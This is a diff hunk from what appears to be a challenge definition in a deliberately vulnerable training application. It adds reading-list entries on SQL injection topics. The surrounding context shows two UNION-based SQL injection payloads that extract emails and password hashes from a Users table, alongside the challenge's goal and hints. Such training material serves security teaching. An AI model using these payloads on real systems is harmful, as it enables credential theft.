@@ -16,6 +16,12 @@ export default defineChallenge({
     "')) UNION SELECT id, email, password, '4', '5', '6', '7', '8', '9' FROM Users--",
     "')) UNION SELECT '1', id, email, password, '5', '6', '7', '8', '9' FROM Users--",
   ],
+  readUp: [
+    { page: 'sql/catalogue', hint: 2 },
+    { page: 'sql/union', hint: 4 },
+    { page: 'sql/blind', hint: 0 },
+    { page: 'sql/mended', hint: 0 },
+  ],
   description: 'Leave with the whole guest list: the address and password hash of every customer, all in one answer.',
   hints: [
     'You need two things: an address that lets you continue its query, and the name of the table that customers live in.',
